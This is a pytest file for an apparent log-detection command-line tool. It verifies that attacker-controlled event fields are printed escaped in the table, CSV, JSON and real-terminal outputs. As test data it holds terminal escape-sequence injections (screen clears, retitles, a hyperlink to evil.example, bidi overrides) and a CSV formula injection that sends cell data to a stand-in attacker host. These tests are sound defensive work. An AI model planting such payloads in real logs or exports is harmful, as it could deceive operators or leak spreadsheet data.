"""Attacker-written strings never reach the terminal raw.

Whoever runs a command names its process, its arguments and sometimes the user and the host: a
user name can carry a CSI "clear screen", an OSC that retitles the terminal or plants a
hyperlink, a BEL, a backspace or carriage return that overwrites what was printed, a NUL, C1
controls (U+009B is a CSI on its own) or a bidi override (U+202E) that makes text read
backwards. Events carrying all of them go through the real ``detect`` into a real store, and
every command that shows event data prints them; the output must hold none of them raw (shown
as ``\\x1b`` / ``\\u202e`` instead), in table, csv and JSON form -- and on a real terminal (a
pty), where colour is on.
"""

from __future__ import annotations

import fcntl
import json
import os
import pty
import re
import struct
import subprocess
import sys
import termios
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

T0 = datetime(2026, 2, 2, tzinfo=UTC)

CSI_CLEAR = "\x1b[2J\x1b[H"
OSC_TITLE = "\x1b]0;owned\x07"
OSC_LINK = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
SEQUENCES = [CSI_CLEAR, OSC_TITLE, OSC_LINK, "\x07", "\x08\x08", "\r", "\x00", "\x9b31m",
             "\x85", "\u202e", "\u2066", "\u200f", "\u2028", "\x7f"]  # fmt: skip
EVIL_USER = "ev" + CSI_CLEAR + "il" + "\u202e" + "resu" + "\x08\r\x00\x9b31m\x7f"
EVIL_HOST = "web" + OSC_LINK + "\x85" + "\u2066"
EVIL_ARG = "-tan" + OSC_TITLE + "\x07" + "\u2028" + "\u200f"
EVIL_PARENT = "bash" + CSI_CLEAR


def doc(minutes: float, user: str, host: str = "h1", args: list[str] | None = None,
        parent: str = "sshd") -> str:  # fmt: skip
    return json.dumps({
        "@timestamp": (T0 + timedelta(minutes=minutes)).isoformat().replace("+00:00", "Z"),
        "event": {"type": ["start"], "category": ["process"]},
        "host": {"name": host, "os": {"type": "linux"}},
        "process": {"name": "ss", "args": args or ["ss", "-tan"], "parent": {"name": parent}},
        "user": {"name": user},
    })  # fmt: skip


def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "rarebird", *args], capture_output=True,
                          text=True, check=False, env=env)  # fmt: skip


def raw_in(text: str) -> list[str]:
    """Characters of ``text`` a terminal would act on or that reorder it (newlines and the
    spaces of the layout aside)."""
    return sorted({repr(ch) for ch in text if ch != "\n" and not ch.isprintable()})


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    tmp = tmp_path_factory.mktemp("evil")
    lines = []
    for b in range(15 * 96):
        for i, user in enumerate(("root", "nagios", "svc_backup")):
            if (b + i) % 4:
                lines.append(doc(b * 15 + 1 + i, user))
    base = 15 * 96 * 15
    lines.append(doc(base + 7, EVIL_USER, EVIL_HOST, ["ss", EVIL_ARG], EVIL_PARENT))
    lines.append(doc(base + 8, EVIL_USER, EVIL_HOST, ["netstat", EVIL_ARG], EVIL_PARENT))
    lines.append(doc(base + 40, "root"))
    events = tmp / "events.ndjson"
    events.write_text("\n".join(lines) + "\n")
    db = tmp / "rb.db"
    proc = run("detect", "--store", str(db), str(events))
    assert proc.returncode == 0, proc.stderr
    assert raw_in(proc.stdout + proc.stderr) == []
    assert "ev\\x1b[2J\\x1b[Hil\\u202eresu" in proc.stdout  # the user, visibly escaped
    listed = json.loads(run("alerts", "list", "--store", str(db), "--format", "json").stdout)
    (alert,) = listed
    assert alert["user"]["name"] == [EVIL_USER]  # JSON keeps the exact value
    return db, alert["kibana.alert.uuid"]


def commands(db: Path, alert_id: str, tmp: Path) -> list[list[str]]:
    values = tmp / "evil-list.txt"
    values.write_text(EVIL_USER + "\n" + EVIL_HOST + "\n")
    s = ["--store", str(db)]
    return [
        ["results", *s], ["results", *s, "--type", "influencer"], ["results", *s, "--type", "bucket"],
        ["alerts", "list", *s], ["alerts", "show", *s, alert_id[:10]],
        ["triage", *s, alert_id[:10]],
        ["status", *s], ["job", "stats", *s, "--format", "table"],
        ["exceptions", "add", *s, "--from-alert", alert_id, "--yes", "--name", "n" + OSC_TITLE],
        ["exceptions", "list", *s], ["exceptions", "export", *s],
        ["value-lists", "import", *s, str(values), "--id", "l" + CSI_CLEAR, "--name", "\u202en"],
        ["value-lists", "list", *s],
        ["rule", "run", *s, "--now", "2026-02-17T00:45:00Z"],
        ["alerts", "close", *s, "--by", "ann" + CSI_CLEAR, "--reason", "a sentence\x1b[2J", alert_id],
    ]  # fmt: skip


@pytest.mark.parametrize("fmt", ["table", "csv", "json", "ndjson"])
def test_no_command_prints_an_escape_sequence_raw(store: tuple[Path, str], tmp_path: Path,
                                                    fmt: str) -> None:  # fmt: skip
    db, alert_id = store
    shown = []
    for argv in commands(db, alert_id, tmp_path):
        takes_format = argv[0] in ("results", "status", "triage") or argv[:2] in (
            ["alerts", "list"], ["alerts", "show"], ["exceptions", "list"], ["value-lists", "list"],
        )  # fmt: skip
        if not takes_format and fmt != "table":
            continue  # commands that change the store run once
        proc = run(*argv, *(["--format", fmt] if takes_format else []))
        assert proc.returncode == 0, (argv, proc.stderr)
        assert raw_in(proc.stdout) == [], argv
        assert raw_in(proc.stderr) == [], argv
        shown.append(proc.stdout)
    everything = "".join(shown)
    if fmt in ("table", "csv"):
        for escaped in ("\\x1b[2J", "\\x1b]0;owned\\x07", "\\u202e", "\\x9b31m", "\\x00", "\\x7f",
                        "\\u2066", "\\x85", "\\u2028", "\\x08"):  # fmt: skip
            assert escaped in everything, escaped
    else:
        # JSON escapes them (\u001b ...) and a JSON reader gets the exact strings back
        assert "\\u001b[2J" in everything
        assert "\\u202e" in everything


def test_on_a_real_terminal_colour_is_on_and_event_strings_still_escaped(
    store: tuple[Path, str],
) -> None:
    db, alert_id = store
    for argv in (
        ["results"],
        ["alerts", "list"],
        ["alerts", "show", alert_id],
        ["triage", alert_id],
    ):
        main_fd, child_fd = pty.openpty()
        fcntl.ioctl(child_fd, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 120, 0, 0))
        env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "COLUMNS")}
        env["TERM"] = "xterm-256color"
        proc = subprocess.Popen([sys.executable, "-m", "rarebird", *argv, "--store", str(db)],
                                stdout=child_fd, stderr=child_fd, stdin=subprocess.DEVNULL,
                                env=env)  # fmt: skip
        os.close(child_fd)
        chunks = []
        while True:
            try:
                data = os.read(main_fd, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not data:
                break
            chunks.append(data)
        os.close(main_fd)
        assert proc.wait(timeout=60) == 0
        out = b"".join(chunks).decode("utf-8")
        for seq in SEQUENCES:
            if seq not in ("\r",):  # the pty turns every newline into \r\n
                assert seq not in out, (argv, repr(seq))
        assert "\x1b]" not in out, argv  # no OSC of any kind
        assert "\\x1b" in out, argv
        if argv == ["results"]:
            # scores are coloured (Kibana's minor..critical) -- colour is really on
            assert "\x1b[" in out.replace("\\x1b[", "")
        if argv[0] in ("results", "alerts") and argv[1:2] != ["show"]:
            # the table is laid out for the terminal's 120 columns (messages may wrap)
            plain = re.sub("\x1b\\[[0-9;]*m", "", out.replace("\r\n", "\n"))
            rows = [line for line in plain.split("\n") if line and not line.startswith("(")]
            assert len(rows) >= 2, rows
            assert max(len(line) for line in rows) <= 120, rows


def test_csv_cells_a_spreadsheet_would_run_are_shown_as_text(tmp_path: Path) -> None:
    """A user named ``=HYPERLINK(...)`` (any local user picks the name of their account on a
    host they own): in ``--format csv`` every such cell starts with ``'``, numbers stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    lines = [doc(b * 15 + 1, "root") for b in range(15 * 96)]
    lines.append(doc(15 * 96 * 15 + 7, formula, "@host", ["ss", "+tan", "-p"]))
    events = tmp_path / "events.ndjson"
    events.write_text("\n".join(lines) + "\n")
    db = tmp_path / "rb.db"
    assert run("detect", "--store", str(db), str(events)).returncode == 0
    proc = run("alerts", "list", "--store", str(db), "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    (row,) = [r for r in rows if "HYPERLINK" in r["user"]]
    assert row["user"] == "'" + formula
    assert row["host"] == "'@host"
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
    scores = [r[k] for r in rows for k in r if k == "score"]
    assert scores
    assert all(float(s) > 0 for s in scores)  # numbers are not prefixed


def test_the_serve_log_writes_no_raw_control_character() -> None:
    import io

    from rarebird.serve.log import JsonLog

    out = io.BytesIO()
    JsonLog(out)("warning", "late_events", user=EVIL_USER, host=EVIL_HOST)
    line = out.getvalue().decode()
    assert raw_in(line) == []
    for escaped in ("\\u009b31m", "\\u202e", "\\u0085"):
        assert escaped in line
    parsed = json.loads(line)
    assert (parsed["user"], parsed["host"]) == (EVIL_USER, EVIL_HOST)
